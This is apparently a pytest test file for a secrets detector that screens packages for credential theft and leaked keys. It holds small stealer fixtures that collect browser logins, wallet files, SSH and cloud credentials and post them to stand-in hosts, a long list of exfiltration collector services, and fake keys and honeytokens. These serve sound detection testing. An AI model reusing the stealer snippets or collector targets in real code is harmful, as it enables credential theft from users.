"""Code that goes for credentials, and credentials left behind."""

import pytest

from sandboxes.screening.detectors import secrets
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

STEALER = (
    "import requests\nPLACES = ['Google/Chrome/User Data/Default/Login Data',\n 'wallet.dat',\n"
    " 'discord/Local Storage/leveldb']\ndef go(f):\n    requests.post('http://x.test', files=f)\n"
)
WEBHOOK = "https://discord.com/api/webhooks/123456789012345678/" + "a" * 60


@pytest.mark.parametrize(
    ("path", "text", "rule", "line", "threat"),
    [
        ("a.py", STEALER, "collect-and-send", 2, Threat.CRITICAL),
        ("a.js", "fetch('http://x')\nx = ['~/.ssh/id_rsa','~/.aws/credentials',\n'~/.npmrc', '~/.kube/config']",
         "collect-and-send", 2, Threat.CRITICAL),
        ("a.py", "import os, json\njson.dumps(dict(os.environ))\nU = 'https://webhook.site/x'",
         "collect-and-send", 3, Threat.CRITICAL),
        ("a.py", f"\nU = '{WEBHOOK}'", "collector", 2, Threat.HIGH),
        ("a.py", "\nA = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.netrc']", "places", 2, Threat.HIGH),
        ("a.py", "K = '''-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEow" * 40 + "\n'''", "left-behind", 1, Threat.MEDIUM),
        ("thing/tests/a.py", "K = 'AKIA" + "QWERTYUIOPASDFGH'", "left-behind", 1, Threat.LOW),
    ],
)  # fmt: skip
def test_what_thieves_know(path: str, text: str, rule: str, line: int, threat: Threat) -> None:
    kind = Kind.NPM if path.endswith(".js") else Kind.WHEEL
    assert (f"secrets.{rule}", line, threat) in told(found_in(secrets, {path: text}, kind))


@pytest.mark.parametrize(
    "text",
    [
        "import requests, os\nA = '~/.aws/credentials'\nB = 'http://169.254.169.254/'\nrequests.get(B)",
        "import paramiko\nKEYS = ['~/.ssh/id_rsa', '~/.ssh/id_ed25519']",
        "import subprocess, os, socket\nsubprocess.run(['x'], env=os.environ)\ne = os.environ.copy()",
        "KEY = 'AKIAIOSFODNN7EXAMPLE'",
        "def webhook(request): ...",
        "text = 'the wallet of the user data'",
    ],
)
def test_what_one_good_tool_knows(text: str) -> None:
    assert told(found_in(secrets, {"a.py": text}), Threat.MEDIUM) == set()


@pytest.mark.parametrize(
    "text",
    [
        (
            'import requests\n\n\ndef hook(url):\n    """Adds a hook.\n\n    hook(\'https://webhook.site/1\')\n'
            '    """\n    requests.post(\'/hooks\')'
        ),
        "import requests\n# try it with https://webhook.site/1\nrequests.post(URL)",
        "import os, requests, subprocess\nsubprocess.run(['x'], env=os.environ)\nrequests.get(URL)",
    ],
)
def test_what_says_nothing_at_all(text: str) -> None:
    assert told(found_in(secrets, {"a.py": text})) == set()


@pytest.mark.parametrize(
    "text",
    [
        "import requests\n'''https://webhook.site/1'''\nrequests.post(__doc__)",
        "import requests\n'''x'''; U = 'https://webhook.site/1'\nrequests.post(U)",
        "import requests\nU = '''\nhttps://webhook.site/1'''\nrequests.post(U)",
        "import requests\n# https://webhook.site/1\nrequests.post('https://webhook.site/2')",
    ],
)
def test_a_collector_that_code_may_reach_is_told(text: str) -> None:
    assert "secrets.collector" in {rule for rule, _, _ in told(found_in(secrets, {"a.py": text}))}


PLACES = """
discord.com/api/webhooks/12345 discordapp.com/api/webhooks/12345 api.telegram.org/bot1 WebHook.site requestbin.com
pipedream.net burpcollaborator.net interact.sh oast.com oast.fun oastify.com canarytokens.com ngrok.io ngrok-free.app
transfer.sh beeceptor.com hookb.in dnslog.cn ceye.io requestcatcher.com file.io gofile.io anonfiles.com
pastebin.com/raw rentry.co paste.ee hastebin.com dpaste.org trycloudflare.com serveo.net localhost.run abc.onion
grabify.link iplogger.org replit.app repl.co
"""


@pytest.mark.parametrize("place", PLACES.split())
def test_each_collector_is_known(place: str) -> None:
    found = told(found_in(secrets, {"a.py": f"U = 'https://x.{place}/'"}))
    assert {rule for rule, _, _ in found} == {"secrets.collector"}


def test_a_left_secret_is_not_repeated() -> None:
    secret = "ghp_" + "aB3" * 12
    (found,) = found_in(secrets, {"a.py": f"T = '{secret}'"})
    assert secret not in found.excerpt
    assert found.rule == "secrets.left-behind"


def test_what_a_page_names_says_less_than_what_a_program_names() -> None:
    text = "\nA = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.netrc']"
    assert told(found_in(secrets, {"static/a.js": text})) == {("secrets.places", 2, Threat.MEDIUM)}
    assert told(found_in(secrets, {"a.js": text}, Kind.NPM)) == {("secrets.places", 2, Threat.HIGH)}


def test_what_is_little_anyway_is_no_more_in_a_page() -> None:
    text = "const p = '/home/x/.config/google-chrome/Default/Login Data';\n"
    low = {("secrets.places", 1, Threat.LOW)}
    assert told(found_in(secrets, {"a.js": text}, Kind.NPM)) == low
    assert told(found_in(secrets, {"static/a.js": text})) == low


BAIT = {
    "an AWS key": "AKIAPETRI0ABCDEFGHIJ",  # also where the text looks like an example
    "a PyPI token": "pypi-PETRI0" + "aB3-" * 21 + "x_",
    "a user": "deploy-" + "abcdef234567" * 2,
    "an address": "http://index.test/honey/" + "abcdef234567" * 2 + "/aws",
}


@pytest.mark.parametrize("bait", BAIT.values(), ids=BAIT)
@pytest.mark.parametrize("path", ["thing/a.py", "thing/tests/data.bin", "README"])
def test_what_we_planted_is_held_wherever_it_is(path: str, bait: str) -> None:
    found = found_in(secrets, {path: b"\xff\n" + bait.encode()})
    assert ("secrets.honeytoken", 2, Threat.CRITICAL) in told(found)
    assert bait not in " ".join(each.excerpt for each in found)


@pytest.mark.parametrize(
    "text", ["AKIAPETRI1ABCDEFGHIJ", "pypi-PETRI0x", "deploy-to-production-servers", "/honey/comb"]
)
def test_what_only_begins_like_it_is_not(text: str) -> None:
    rules = {rule for rule, _, _ in told(found_in(secrets, {"thing/a.py": f"K = '{text}'"}))}
    assert "secrets.honeytoken" not in rules
